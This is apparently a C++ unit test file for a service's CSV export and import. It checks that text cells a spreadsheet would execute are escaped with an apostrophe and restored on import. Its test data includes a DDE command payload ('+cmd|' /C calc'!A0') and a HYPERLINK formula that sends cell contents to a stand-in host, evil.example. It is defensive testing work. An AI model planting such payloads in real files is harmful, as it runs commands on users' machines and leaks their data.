// CSV export and import (service/examples/example_io.h): a text cell a spreadsheet would run as a
// formula is written after an apostrophe (OWASP's CSV injection rule), and import takes exactly
// that apostrophe off again, so every string survives the round trip as it was.
#include "service/examples/example_io.h"

#include <gtest/gtest.h>

#include <map>
#include <string>

#include "service/examples/example_json.h"

namespace exemplar::service {
namespace {

Example Make(const std::string& explanation, const std::string& function_name = "f") {
  Validation v;
  Example e = ExampleFromCreateJson({{"input", {{"q", "=1+1"}}},
                                     {"expected_output", {{"a", "-5"}}},
                                     {"explanation", explanation},
                                     {"function_name", function_name},
                                     {"domain", "@SUM(1,1)"},
                                     {"client_id", "+cmd|' /C calc'!A0"},
                                     {"attribution_notes", "'quoted"},
                                     {"capability_tags", {"=tag"}},
                                     {"quality_score", 0.5}},
                                    v, {"body"});
  EXPECT_TRUE(v.ok());
  return e;
}

// The cells of one CSV row, by column name.
std::map<std::string, std::string> Cells(const std::string& row) {
  auto rows = ParseCsv(CsvHeader() + row);
  EXPECT_TRUE(rows.ok());
  std::map<std::string, std::string> cells;
  for (size_t c = 0; c < (*rows)[0].size(); ++c) cells[(*rows)[0][c]] = (*rows)[1][c];
  return cells;
}

TEST(ExampleIo, TextCellsThatSpreadsheetsRunAreWrittenAsText) {
  auto cells = Cells(ExampleToCsvRow(Make("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\tSUM(1)")));
  EXPECT_EQ(cells["explanation"], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(cells["function_name"], "'\tSUM(1)");
  EXPECT_EQ(cells["domain"], "'@SUM(1,1)");
  EXPECT_EQ(cells["client_id"], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(cells["attribution_notes"], "''quoted");  // an apostrophe of its own gets one more
  // JSON columns are left as they are: an object, a list and a number are no formulas.
  EXPECT_EQ(cells["input"], "{\"q\":\"=1+1\"}");
  EXPECT_EQ(cells["expected_output"], "{\"a\":\"-5\"}");
  EXPECT_EQ(cells["capability_tags"], "[\"=tag\"]");
  EXPECT_EQ(cells["quality_score"], "0.5");
  for (const auto& [column, cell] : cells) {
    if (cell.empty()) continue;  // null (databit_id, difficulty, …)
    EXPECT_EQ(std::string("=+-@\t\r").find(cell[0]), std::string::npos) << column << ": " << cell;
  }
  // A harmless text is written as it is.
  EXPECT_EQ(Cells(ExampleToCsvRow(Make("plain, with a comma")))["explanation"], "plain, with a comma");
}

TEST(ExampleIo, CsvRoundTripGivesBackEveryStringExactly) {
  for (const std::string& text : {"'", "''", "'=", "'=1+1", "=", "=1+1", "-5", "+", "@", "\t", "\ttab", "\rcr",
                                  "a'b", "plain", "", "-", " =lead space"}) {
    Example e = Make(text, text.empty() ? "f" : text);
    auto parsed = ParseImport(CsvHeader() + ExampleToCsvRow(e), ExampleFormat::kCsv, 10);
    ASSERT_TRUE(parsed.ok()) << text;
    ASSERT_EQ(parsed->records.size(), 1u) << text;
    const Json& back = parsed->records[0];
    EXPECT_EQ(back["explanation"], text) << "'" << text << "'";
    EXPECT_EQ(back["function_name"], text.empty() ? "f" : text);
    EXPECT_EQ(back["domain"], "@SUM(1,1)");
    EXPECT_EQ(back["client_id"], "+cmd|' /C calc'!A0");
    EXPECT_EQ(back["attribution_notes"], "'quoted");
    EXPECT_EQ(back["input"], Json({{"q", "=1+1"}}));
    EXPECT_EQ(back["capability_tags"], Json({"=tag"}));
  }
}

TEST(ExampleIo, ImportTakesOneLeadingApostropheOffATextCell) {
  // As a spreadsheet saves a cell typed as '=1+1 (and a file written by hand).
  auto parsed = ParseImport("input,expected_output,explanation,domain,source\r\n"
                            "\"{\"\"q\"\": 1}\",\"{\"\"a\"\": 1}\",'=1+1,''twice,'human_authored\r\n",
                            ExampleFormat::kCsv, 10);
  ASSERT_TRUE(parsed.ok());
  ASSERT_EQ(parsed->records.size(), 1u);
  EXPECT_EQ(parsed->records[0]["explanation"], "=1+1");
  EXPECT_EQ(parsed->records[0]["domain"], "'twice");
  EXPECT_EQ(parsed->records[0]["source"], "human_authored");
}

}  // namespace
}  // namespace exemplar::service
